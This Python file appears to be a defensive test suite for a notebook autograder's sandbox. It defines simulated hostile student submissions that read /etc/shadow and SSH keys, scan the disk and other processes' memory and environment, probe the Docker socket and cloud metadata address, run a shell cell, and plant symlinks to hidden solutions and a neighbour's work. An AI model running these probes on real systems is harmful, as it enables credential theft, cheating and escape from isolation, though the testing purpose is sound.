"""Attacks that read: what the grader knows, what others handed in, what the machine holds.

Nearly all of them answer q1 rightly and print what they find: its points must come, and what they
found must be nothing. Secrets begin with `planted-` (see corpus.SECRETS).
"""

from __future__ import annotations

from pathlib import Path

from attack import Submitted
from mini_course import BUILD, NAME, RIGHT, TAU
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell

FULL = {"q1": 3, "q2": 3}
FIRST = {"q1": 3, "q2": 0}
NONE = {"q1": 0, "q2": 0}
PASS = {"q1": "pass", "q2": "pass"}
PASS_FIRST = {"q1": "pass", "q2": "fail"}
UNDECIDED = {"q1": "undecided", "q2": "undecided"}

SEEN = '''\
import os, pathlib, re

def seen(*paths):
    """Print what can be read at the paths."""
    for path in paths:
        try:
            print(path, pathlib.Path(path).read_bytes()[:4000])
        except (OSError, ValueError) as error:
            print(path, type(error).__name__)

'''


def printing(name: str, tries: str, code: str) -> Submitted:
    """A right answer to q1; above it, `code` prints what it finds."""
    return Submitted(
        name=name,
        tries=tries,
        points=FIRST,
        outcome=PASS_FIRST,
        answers={"q1-solution": f"{SEEN}{code}\n{TAU}"},
    )


DISK = """\
telling = ("planted-", "SECRET =", "draws =")
for folder, folders, files in os.walk("/"):
    if folder in ("/proc", "/sys", "/usr", "/lib"):
        folders[:] = []
    for name in files:
        path = os.path.join(folder, name)
        if name in ("secret.txt", "gradebook.db", "key", "reference.json", "q1.py", "q2.py"):
            seen(path)
        elif name.endswith((".ipynb", ".json", ".txt")) and "site-packages" not in folder:
            seen(path)
print(os.listdir("/"), os.listdir(".."))
"""

GUESSED = """\
import glob, sys

course = pathlib.Path("/proc/self/mountinfo").read_text()
print(course)
for root in {"/", "/root", "/home", "/srv", "/work", "/tmp", "/var/tmp", *sys.path}:
    for name in ("secret.txt", "gradebook.db", ".autograder/key", "nbgrader_config.py"):
        seen(f"{root}/{name}", f"{root}/../{name}")
for path in ("/etc/shadow", "/etc/passwd", "/root/.bash_history", "/root/.ssh/id_rsa", "/dev/mem"):
    seen(path)
seen(*glob.glob("/tmp/autograder-*/*"), *glob.glob("/tmp/pytest-of-*/*/*/*/secret.txt"))
"""

PROCESSES = """\
import glob

for pid in {"1", "self", str(os.getppid()), *(p.split("/")[2] for p in glob.glob("/proc/[0-9]*"))}:
    seen(f"/proc/{pid}/cmdline", f"/proc/{pid}/environ", f"/proc/{pid}/maps")
    for way in ("cwd", "root", "root/tmp", "root/home", "root/root", "fd", "map_files"):
        try:
            print(way, os.listdir(f"/proc/{pid}/{way}"))
            seen(f"/proc/{pid}/{way}/secret.txt", f"/proc/{pid}/{way}/gradebook.db")
        except OSError as error:
            print(way, error)
"""

MEMORY = """\
import ctypes, glob

libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH = 16
for pid in (1, os.getppid(), *range(2, 8)):
    print(pid, libc.ptrace(PTRACE_ATTACH, pid, 0, 0), os.strerror(ctypes.get_errno()))
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                low, high = (int(part, 16) for part in line.split()[0].split("-"))
                memory.seek(low)
                text = memory.read(min(high - low, 1 << 24))
                print(re.findall(rb"planted-[-a-z]+[0-9a-f]{8}", text))
    except (OSError, ValueError, OverflowError) as error:
        print(pid, error)
"""

OWN_MEMORY = '''\
def searched():
    """Every planted text in the memory of this process, printed and drawn."""
    found = set()
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            if " rw-p " in line:
                low, high = (int(part, 16) for part in line.split()[0].split("-"))
                memory.seek(low)
                try:
                    text = memory.read(high - low)
                    found |= set(re.findall(rb"planted-[-a-z]+[0-9a-f]{8}", text))
                except OSError:
                    pass
    return found

'''

DESCRIPTORS = """\
import socket, stat

for fd in range(256):
    try:
        kind = os.fstat(fd).st_mode
        print(fd, os.readlink(f"/proc/self/fd/{fd}"))
    except OSError:
        continue
    if stat.S_ISDIR(kind):
        for above in ("..", "../..", "../../../.."):
            print(os.listdir(os.open(above, os.O_RDONLY, dir_fd=fd)))
    if stat.S_ISREG(kind):
        print(os.pread(fd, 4000, 0))
    if stat.S_ISSOCK(kind):
        end = socket.socket(fileno=os.dup(fd))
        end.settimeout(0.1)
        try:
            print(end.recv(4000, socket.MSG_PEEK))
        except OSError as error:
            print(error)
"""

SOCKETS = '''\
import socket

def called(family, address):
    """What answers at an address."""
    try:
        with socket.socket(family) as end:
            end.settimeout(0.2)
            end.connect(address)
            end.sendall(b"GET /containers/json HTTP/1.0\\r\\n\\r\\n")
            print(address, end.recv(4000))
    except OSError as error:
        print(address, error)

seen("/proc/net/unix", "/proc/net/tcp", "/proc/self/net/fib_trie")
names = ("/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket",
         "/launch/socket")
for name in (*names, *(f"\\0autograder-uid-{uid}" for uid in range(60000, 60010))):
    called(socket.AF_UNIX, name)
for host in ("127.0.0.1", "169.254.169.254", "10.0.0.1"):
    for port in (22, 80, 8888):
        called(socket.AF_INET, (host, port))
'''

SHELL = """\
%%bash
cat /etc/shadow; find / -name secret.txt -exec cat {} + 2>&1 | tail -3
ls -la / /root /home /tmp 2>&1; cat /proc/1/environ; env; id; ps ax
"""

LOOKED_UP = """\
import sys

sys.path.insert(0, "/opt/autograder")
import autograder.course.layout, autograder.course.key
import autograder.checks.check_file, autograder.course.store

for place in ("/", "..", os.getcwd(), "/opt/autograder", "/opt", *sys.path):
    try:
        course = autograder.course.layout.find_course(pathlib.Path(place))
        print(course, autograder.course.key.course_key(course.state))
        for assignment in course.assignments():
            seen(assignment.script, assignment.reference, assignment.check_file("q2"))
    except Exception as error:
        print(error)
"""

DRAW = """\
seen(os.environ["AUTOGRADER_DRAW"], *pathlib.Path(os.environ["AUTOGRADER_DRAW"]).parent.iterdir())
"""

SHARED = """\
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
SHM_STAT, SHMGET, SHMAT = 13, 29, 30
for key in range(64):
    if libc.shmget(key, 0, 0) >= 0 or libc.msgget(key, 0) >= 0 or libc.semget(key, 0, 0) >= 0:
        print("shared", key)
seen("/proc/keys", "/proc/key-users", "/proc/sysvipc/shm", "/proc/kcore", "/proc/kmsg")
ADD_KEY, KEYCTL = 248, 250
print(libc.syscall(ADD_KEY, b"user", b"left", b"here", 4, -4), os.strerror(ctypes.get_errno()))
for ring in (-1, -2, -3, -4, -5):
    text = ctypes.create_string_buffer(4000)
    print(ring, libc.syscall(KEYCTL, 11, ring, text, 4000), text.raw[:40])
for place in ("/dev/shm", "/dev/mqueue", "/var/tmp", "/run", "/var/spool", "/sys/fs/cgroup"):
    try:
        print(place, os.listdir(place))
    except OSError as error:
        print(error)
"""

RETURNED = """\
import os, pathlib

def tau_m_ms(R_MOhm, C_m_pF):
    return str(dict(os.environ)) + pathlib.Path("/proc/1/environ").read_text() + os.getcwd()
"""

RAISED = """\
import pathlib

def tau_m_ms(R_MOhm, C_m_pF):
    found = [str(path) for path in pathlib.Path("/").glob("*/*/secret.txt")]
    class Found(Exception):
        def __str__(self):
            return f"{found} {pathlib.Path('/proc/1/environ').read_text()} {In}"
    raise Found
"""

HISTORY = """\
import gc, sys

print(In, _ih, get_ipython().history_manager.input_hist_raw, _dh, Out)
print([each for each in gc.get_objects() if isinstance(each, dict) and "probe" in each][:20])
frame = sys._getframe()
while frame:
    print(frame.f_code.co_filename, [str(value)[:500] for value in frame.f_locals.values()])
    frame = frame.f_back
"""


def look_back(notebook: NotebookNode) -> None:
    """A cell of the student's own below every graded cell."""
    notebook.cells.append(new_code_cell(HISTORY))
    notebook.cells.insert(5, new_code_cell(HISTORY))


def run_shell(notebook: NotebookNode) -> None:
    """A cell in another language."""
    notebook.cells.insert(2, new_code_cell(SHELL))


def instead_of_the_notebook(folder: Path) -> None:
    """Hand in a link to what a neighbour handed in."""
    (folder / "mini.ipynb").unlink()
    (folder / "mini.ipynb").symlink_to(f"../../neighbour-right/{NAME}/mini.ipynb")


def beside_the_notebook(folder: Path) -> None:
    """Hand in links to files of the course, of a neighbour and of the system."""
    for number, target in enumerate(
        (
            "../../../secret.txt",
            f"../../../solutions/{NAME}/tests/q2.py",
            f"../../neighbour-right/{NAME}/mini.ipynb",
            "/etc/passwd",
        )
    ):
        (folder / f"data{number}.txt").symlink_to(target)


ATTACKS = (
    printing(
        "environment",
        "Prints its environment variables and how every process it can see was called and with "
        "which environment; looks at their folders and open files through /proc.",
        PROCESSES,
    ),
    printing("whole-disk", "Reads every file with a telling name on the whole disk.", DISK),
    printing(
        "guessed-paths", "Reads where a course, its grader or its owner keep things.", GUESSED
    ),
    printing("memory-of-others", "Attaches to its parents and reads their memory.", MEMORY),
    Submitted(
        name="own-memory",
        tries="Searches its own memory for texts of the grader's, when a hidden probe calls it.",
        points=FULL,
        outcome=PASS,
        answers=RIGHT
        | {
            "q1-solution": SEEN
            + OWN_MEMORY
            + TAU.replace("return", "print(searched())\n    return")
        },
        edit=lambda notebook: notebook.cells.append(new_code_cell("print(searched())")),
    ),
    printing(
        "descriptors", "Reads and climbs from every open file, folder and socket.", DESCRIPTORS
    ),
    printing("sockets", "Calls the container engine, the grader and the network.", SOCKETS),
    printing("modules-of-the-grader", "Asks the grader's modules for course and key.", LOOKED_UP),
    printing("draw", "Prints the draw: arguments and seeds of all probes.", DRAW),
    printing("shared-memory", "Looks for System V memory, kernel keys and message queues.", SHARED),
    Submitted(
        name="shell",
        tries="Leaves Python: a cell in bash that looks around.",
        points=FULL,
        outcome=PASS,
        answers=RIGHT,
        edit=run_shell,
    ),
    Submitted(
        name="history",
        tries="Prints the text of the cells that ran, their objects and the frames above.",
        points=FULL,
        outcome=PASS,
        answers=RIGHT,
        edit=look_back,
    ),
    Submitted(
        name="returned",
        tries="Returns what it read, for a message of a failing check to show.",
        points={"q1": 0, "q2": 3},
        outcome={"q1": "fail", "q2": "pass"},
        answers={"q1-solution": RETURNED, "q2-solution": BUILD},
    ),
    Submitted(
        name="raised",
        tries="Raises an exception whose message is what it read.",
        points={"q1": 0, "q2": 3},
        outcome={"q1": "fail", "q2": "pass"},
        answers={"q1-solution": RAISED, "q2-solution": BUILD},
        says="Found",
    ),
    Submitted(
        name="link-as-notebook",
        tries="Hands in a link to a neighbour's notebook.",
        points=NONE,
        outcome=UNDECIDED,
        answers={},
        folder=instead_of_the_notebook,
    ),
    Submitted(
        name="links-beside",
        tries="Hands in links to the hidden checks, a neighbour's answers and files of the system.",
        points=NONE,
        outcome=UNDECIDED,
        answers=RIGHT,
        folder=beside_the_notebook,
    ),
)
